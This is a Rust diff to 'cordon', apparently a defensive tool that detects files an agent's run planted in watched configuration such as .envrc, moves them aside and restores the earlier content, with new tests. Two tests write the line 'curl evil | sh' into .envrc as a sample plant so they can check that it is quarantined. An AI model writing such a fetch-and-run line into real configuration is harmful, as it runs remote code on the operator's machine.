@@ -199,6 +199,10 @@ pub enum Handling {
     /// Removed by the run, and written back here with the content, mode and owner it had
     /// before (a directory: made again, with what cordon knew of the files in it).
     Recreated,
+    /// Renamed here; the earlier content could not be written back (why: a full disk, which
+    /// the command may have filled) nor journaled: it is in what the run kept ([`Kept`]), for
+    /// the next run over the root to write back ([`Kept::write_back_missing`]).
+    Unrestored(PathBuf, String),
 }
 
 /// One path the run left that the operator's tools run or read as configuration.
@@ -224,6 +228,10 @@ impl Finding {
             ),
             Handling::Reported(why) => format!("left in place: {why}"),
             Handling::Recreated => "written back with its earlier content".into(),
+            Handling::Unrestored(to, why) => format!(
+                "the run's version moved aside to {}; the earlier content could not be written back ({why}): the next run over this root writes it back from what this run kept",
+                to.display()
+            ),
         };
         if self.change == Change::Removed {
             let done = match &self.handling {
@@ -292,6 +300,8 @@ pub struct Snapshot {
     /// The operator's direnv loads `.env` files as it runs `.envrc`
     /// (`cordon_policy::surface::dotenv_by_direnv`): each is watched as `.envrc` is.
     dotenv: bool,
+    /// Nothing is put back from this snapshot's contents ([`Snapshot::forget_contents`]).
+    no_restore: bool,
 }
 
 /// A directory's entries that the walk looks at ([`kept`]: its subdirectories and the names it
@@ -1301,23 +1311,21 @@ impl Snapshot {
     /// back), each moved aside: the scan of a run whose cordon died before its own scan (killed
     /// by an agent host's timeout), done by the next run without the "before" snapshot.
     /// Directories are not reported by their ctime (git changes it in normal work); what is
-    /// watched inside them is. A changed file whose earlier content the dead run kept
+    /// watched inside them is; nor is a file that holds what the dead run kept of it (content,
+    /// mode and owner: as it was). A changed file whose earlier content the dead run kept
     /// ([`Kept`]) gets it back, as the run's own scan would have done (never over a name:
     /// what is at the name is moved aside first, and the restore refuses a name that was
     /// filled meanwhile); each move journaled first in `journal`, when there is one.
     pub fn changed_since(
         &self,
-        since: SystemTime,
+        since: Began,
         kept: &Kept,
         journal: Option<&Journal>,
     ) -> Vec<Finding> {
-        let secs = since
-            .duration_since(SystemTime::UNIX_EPOCH)
-            .map_or(0, |d| d.as_secs() as i64);
         let mut out: Vec<Finding> = Vec::new();
         for (path, now) in &self.seen {
             // id: (kind, dev, ino, size, mtime, mtime_nsec, ctime, ctime_nsec, mode)
-            if now.id.0 == DIR || now.id.6 < secs {
+            if now.id.0 == DIR || !stamped_at_or_after((now.id.6, now.id.7), since) {
                 continue;
             }
             // A placeholder of a run still going (see `crate::protect::Placeholders`):
@@ -1333,6 +1341,15 @@ impl Snapshot {
             if is_own(path, now) {
                 continue;
             }
+            // As it was before the run (content, mode and owner as the run kept them): cordon's
+            // own restore of a scan killed before its marker went, or a rewrite to the same
+            // bytes. Nothing to move aside; it would only blame the run for the operator's file.
+            if now
+                .earlier()
+                .is_some_and(|e| kept.files.get(path) == Some(&e))
+            {
+                continue;
+            }
             out.push(Finding {
                 path: path.clone(),
                 what: now.what,
@@ -1345,6 +1362,16 @@ impl Snapshot {
             f.handling = quarantine(f, kept.files.get(&f.path).cloned(), journal);
         }
         out
+    }
+
+    /// Forgets the contents this snapshot read: nothing is put back from it (the run's
+    /// changes are moved aside only). For a snapshot taken while another run over roots that
+    /// meet these was going: what it read may be that run's plant, which its own scan moves
+    /// aside and this one's would then have written back over the operator's restored file.
+    pub fn forget_contents(&mut self) {
+        // A flag, not the contents themselves: a snapshot is compared with the next one by
+        // what it holds, so emptied contents would make every watched file look changed.
+        self.no_restore = true;
     }
 
     /// The earlier contents this snapshot read ([`Kept`]), to be kept where no run reaches
@@ -1482,6 +1509,7 @@ impl Snapshot {
                 continue;
             }
             let earlier = match f.change {
+                Change::Changed if before.no_restore => None,
                 Change::Changed => before.seen.get(&f.path).and_then(Seen::earlier),
                 Change::Appeared => None,
                 Change::Removed => {
@@ -1533,6 +1561,13 @@ fn recreate(path: &Path, before: &Snapshot) -> Handling {
     let Some(was) = before.seen.get(path) else {
         return Handling::Reported("nothing was known of it".into());
     };
+    if before.no_restore {
+        // What `before` read may be another run's plant, which that run's own scan moved
+        // aside: writing it back here would put the plant in place again.
+        return Handling::Reported(
+            "another run over these roots was going when this one started, so what it saw may be that run's: nothing is written back; restore it from a backup if it was yours".into(),
+        );
+    }
     if matches!(was.what, What::GitDir | What::BareRepository) && was.id.0 == DIR {
         return Handling::Reported(
             "a git directory: cordon does not rebuild a repository; restore it from a backup or a clone".into(),
@@ -1737,7 +1772,7 @@ impl Watch {
                         }
                     }
                 }
-                Handling::Reported(_) => {}
+                Handling::Reported(_) | Handling::Unrestored(..) => {}
             }
         }
         self.baseline = now;
@@ -1770,12 +1805,58 @@ fn real_in(path: &Path, roots: &[PathBuf]) -> PathBuf {
 /// `kept` ([`Snapshot::kept`]) put back; `None` when the walk could not finish.
 pub fn scan_changed_since(
     roots: &[PathBuf],
-    since: SystemTime,
+    since: impl Into<Began>,
     kept: &Kept,
     journal: Option<&Journal>,
 ) -> Option<Vec<Finding>> {
     let now = Snapshot::take(roots);
-    (!now.truncated).then(|| now.changed_since(since, kept, journal))
+    (!now.truncated).then(|| now.changed_since(since.into(), kept, journal))
+}
+
+/// When a dead run began, as its scan compares it with ctimes ([`scan_changed_since`]).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Began {
+    /// Read from the clock (`SystemTime::now`): a ctime the kernel stamped after it may lie
+    /// up to [`STAMP_SLACK`] before it.
+    Clock(SystemTime),
+    /// Stamped by the kernel, the clock ctimes come from, on a file made then (the marker's
+    /// birth time): a ctime stamped after it is not earlier.
+    Stamp(SystemTime),
+}
+
+impl From<SystemTime> for Began {
+    fn from(t: SystemTime) -> Began {
+        Began::Clock(t)
+    }
+}
+
+/// How far before a moment a ctime stamped after it may lie: the kernel stamps ctime from its
+/// coarse clock, which lags the clock `SystemTime::now` reads by up to a tick (10 ms at the
+/// slowest `HZ`), and a filesystem truncates it to its own granularity (10 ms at the coarsest
+/// one that keeps fractions).
+const STAMP_SLACK: Duration = Duration::from_millis(50);
+
+/// Whether a ctime (seconds, nanoseconds) may have been stamped at or after `since`. A ctime
+/// with no fraction is taken for a filesystem that keeps whole seconds (or FAT's two): compared
+/// by those, so a change in the same second is never missed. Any other is compared to `since`
+/// itself where the kernel stamped it, else to [`STAMP_SLACK`] before it: what the operator
+/// changed before a run began is not blamed on it (compared in whole seconds, an edit made in
+/// the same second as a killed run's start was moved aside as the run's).
+fn stamped_at_or_after((secs, nsec): (i64, i64), since: Began) -> bool {
+    let (since, slack) = match since {
+        Began::Clock(t) => (t, STAMP_SLACK),
+        Began::Stamp(t) => (t, Duration::ZERO),
+    };
+    let since = since
+        .duration_since(SystemTime::UNIX_EPOCH)
+        .unwrap_or_default();
+    if nsec == 0 {
+        return secs >= since.as_secs() as i64 - 1;
+    }
+    let (Ok(secs), Ok(nsec)) = (u64::try_from(secs), u32::try_from(nsec)) else {
+        return secs >= 0; // not a time cordon can read: taken as after
+    };
+    Duration::new(secs, nsec.min(999_999_999)) + slack >= since
 }
 
 /// The earlier contents a run's "before" snapshot read ([`Snapshot::kept`]), as the run kept
@@ -1803,6 +1884,40 @@ impl Kept {
     /// Whether the earlier content of `path` was kept.
     pub fn holds(&self, path: &Path) -> bool {
         self.files.contains_key(path)
+    }
+
+    /// Writes each kept file whose name is empty now back (content, mode, owner): after a
+    /// scan that moved a run's version aside and could not write the earlier content back
+    /// ([`Handling::Unrestored`]). Never over a name (staged beside it, renamed into place
+    /// without replacing), never through a link. Each path written back, or why not.
+    pub fn write_back_missing(&self) -> Vec<(PathBuf, Result<(), String>)> {
+        let mut out = Vec::new();
+        for (path, was) in &self.files {
+            let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
+                continue;
+            };
+            let Ok(dir) = cordon_fs::safe::Dir::open_absolute(parent) else {
+                continue; // its directory is gone: nothing to write into
+            };
+            if !matches!(dir.stat_at(Path::new(name)), Ok(None)) {
+                continue; // filled meanwhile (or cannot be looked at): left as it is
+            }
+            let staging = Journal::staging_name(name);
+            let done = journal::stage(&dir, Path::new(&staging), was)
+                .and_then(|()| {
+                    dir.rename_noreplace(Path::new(&staging), Path::new(name))
+                        .map_err(std::io::Error::other)
+                })
+                .map_err(|e| {
+                    let _ = dir.remove(Path::new(&staging));
+                    e.to_string()
+                });
+            if done.is_ok() {
+                remember_restored(path, &was.content);
+            }
+            out.push((path.clone(), done));
+        }
+        out
     }
 
     fn parse(bytes: &[u8]) -> Option<Kept> {
@@ -3601,6 +3716,178 @@ mod tests {
         );
         assert!(root.join(".envrc").exists());
     }
+    /// Where the marker's birth time says when the dead run began (the kernel's own stamp),
+    /// an edit of the operator's made just before it — within the clock's slack — is not the
+    /// run's; a file changed after it is.
+    #[test]
+    fn a_dead_runs_scan_from_the_markers_birth_blames_nothing_made_before_it() {
+        use rustix::fs::{statx, AtFlags, StatxFlags};
+        use std::os::unix::fs::MetadataExt;
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().canonicalize().unwrap().join("root");
+        std::fs::create_dir(&root).unwrap();
+        let roots = std::slice::from_ref(&root);
+        std::fs::write(root.join(".envrc"), "the operator's\n").unwrap();
+        // The marker in a later tick of the kernel's clock (a stamp in the same tick as the
+        // edit cannot be told apart from it, and counts as after).
+        let ctime = |p: &Path| {
+            let m = std::fs::metadata(p).unwrap();
+            (m.ctime(), m.ctime_nsec())
+        };
+        let probe = d.path().join("probe");
+        let deadline = std::time::Instant::now() + Duration::from_secs(60);
+        loop {
+            std::fs::write(&probe, "").unwrap();
+            if ctime(&probe) > ctime(&root.join(".envrc")) {
+                break;
+            }
+            assert!(
+                std::time::Instant::now() < deadline,
+                "the clock stood still"
+            );
+        }
+        let marker = d.path().join("marker");
+        std::fs::write(&marker, "").unwrap();
+        let st = statx(
+            rustix::fs::CWD,
+            &marker,
+            AtFlags::empty(),
+            StatxFlags::BTIME,
+        )
+        .unwrap();
+        assert!(StatxFlags::from_bits_retain(st.stx_mask).contains(StatxFlags::BTIME));
+        let born = SystemTime::UNIX_EPOCH
+            + Duration::new(st.stx_btime.tv_sec as u64, st.stx_btime.tv_nsec);
+        std::fs::create_dir(root.join("sub")).unwrap();
+        std::fs::write(root.join("sub/.envrc"), "the run's\n").unwrap();
+        // Stamped, the start does not take the operator's edit a moment before for the run's
+        // (read from the clock, with its slack, it did).
+        let at = |b: Began| {
+            let snap = Snapshot::take(roots);
+            let mut found: Vec<PathBuf> = snap
+                .seen
+                .iter()
+                .filter(|(_, s)| s.id.0 != DIR && stamped_at_or_after((s.id.6, s.id.7), b))
+                .map(|(p, _)| p.clone())
+                .collect();
+            found.sort();
+            found
+        };
+        assert_eq!(at(Began::Stamp(born)), [root.join("sub/.envrc")]);
+        let found = scan_changed_since(roots, Began::Stamp(born), &Kept::default(), None).unwrap();
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert_eq!(
+            std::fs::read_to_string(root.join(".envrc")).unwrap(),
+            "the operator's\n"
+        );
+    }
+
+    /// A snapshot whose contents are forgotten (another run was going when it was taken)
+    /// still compares as it was: nothing unchanged is a finding (emptied contents had made
+    /// every watched file look changed, and the placeholder of a live run was moved aside),
+    /// and a changed file is moved aside without anything put back.
+    #[test]
+    fn a_snapshot_with_its_contents_forgotten_compares_and_puts_nothing_back() {
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().canonicalize().unwrap();
+        let roots = std::slice::from_ref(&root);
+        std::fs::write(root.join(".envrc"), "use flake\n").unwrap();
+        std::fs::create_dir(root.join(".git")).unwrap();
+        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
+        let mut before = Snapshot::take(roots);
+        before.forget_contents();
+        let none = Snapshot::take(roots).findings_since(&before);
+        assert!(none.is_empty(), "{none:#?}");
+        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
+        let found = Snapshot::take(roots).findings_since(&before);
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert!(
+            matches!(found[0].handling, Handling::Quarantined(_)),
+            "{found:#?}"
+        );
+        assert!(!root.join(".envrc").exists());
+    }
+
+    /// A file that holds what the dead run kept of it (content, mode and owner) is as it was,
+    /// whatever its ctime: a scan killed after putting the earlier content back but before
+    /// its marker went (the next run's dead-run scan then sees cordon's own restore as
+    /// changed) moved it aside a second time, blaming the run for the operator's own content.
+    #[test]
+    fn a_file_holding_what_the_dead_run_kept_is_not_taken_for_its_change() {
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().canonicalize().unwrap();
+        let roots = std::slice::from_ref(&root);
+        let envrc = root.join(".envrc");
+        std::fs::write(&envrc, "use flake\n").unwrap();
+        let started = SystemTime::now() - Duration::from_secs(5);
+        let kept = Snapshot::take(roots).kept();
+        // Put back as the killed scan did: a new file under the name, same content and mode.
+        std::fs::write(root.join(".staging"), "use flake\n").unwrap();
+        std::fs::rename(root.join(".staging"), &envrc).unwrap();
+        let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
+        assert!(found.is_empty(), "{found:#?}");
+        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "use flake\n");
+        let aside: Vec<_> = std::fs::read_dir(&root)
+            .unwrap()
+            .flatten()
+            .filter(|e| e.file_name().to_string_lossy().contains("quarantine"))
+            .collect();
+        assert!(aside.is_empty(), "{aside:?}");
+        // Another content is the run's, as before.
+        std::fs::write(&envrc, "curl evil | sh").unwrap();
+        let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "use flake\n");
+    }
+
+    /// A dead run's scan compares ctimes to its start closely: a file changed in the same
+    /// second as the start but well before it is not taken for the run's change (compared in
+    /// whole seconds it was, and moved aside); one stamped just before the start (the kernel's
+    /// coarse clock lags) is.
+    #[test]
+    fn a_dead_runs_scan_takes_what_changed_before_it_began_for_nothing_of_its_own() {
+        use std::os::unix::fs::{MetadataExt, PermissionsExt};
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().canonicalize().unwrap();
+        let roots = std::slice::from_ref(&root);
+        let envrc = root.join(".envrc");
+        std::fs::write(&envrc, "operator\n").unwrap();
+        // A ctime early enough in its second (each chmod stamps a new one).
+        let deadline = std::time::Instant::now() + Duration::from_secs(60);
+        let mut mode = 0o644;
+        let m = loop {
+            let m = std::fs::metadata(&envrc).unwrap();
+            if m.ctime_nsec() < 900_000_000 || std::time::Instant::now() > deadline {
+                break m;
+            }
+            mode ^= 0o020;
+            std::fs::set_permissions(&envrc, std::fs::Permissions::from_mode(mode)).unwrap();
+        };
+        assert!(m.ctime_nsec() < 900_000_000, "no early ctime in a minute");
+        let second = SystemTime::UNIX_EPOCH + Duration::from_secs(m.ctime() as u64);
+        let late = second + Duration::from_nanos(999_999_999);
+        let none = scan_changed_since(roots, late, &Kept::default(), None).unwrap();
+        assert!(none.is_empty(), "{none:#?}");
+        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "operator\n");
+        let ctime = second + Duration::from_nanos(m.ctime_nsec() as u64);
+        let found = scan_changed_since(
+            roots,
+            ctime + Duration::from_millis(5),
+            &Kept::default(),
+            None,
+        )
+        .unwrap();
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert!(!envrc.exists());
+        // A filesystem of whole seconds: anything in the same second, or the one before.
+        let t = Began::Clock(SystemTime::UNIX_EPOCH + Duration::new(100, 999_999_999));
+        assert!(stamped_at_or_after((100, 0), t));
+        assert!(stamped_at_or_after((99, 0), t));
+        assert!(!stamped_at_or_after((98, 0), t));
+        assert!(!stamped_at_or_after((100, 900_000_000), t));
+        assert!(stamped_at_or_after((100, 960_000_000), t));
+    }
+
     /// What a run keeps of its "before" snapshot ([`Snapshot::kept`]) is what a dead run's
     /// scan puts back: a changed file gets its earlier content and mode; a file too large to
     /// have been read, and everything when the kept bytes are not whole (a cordon killed while
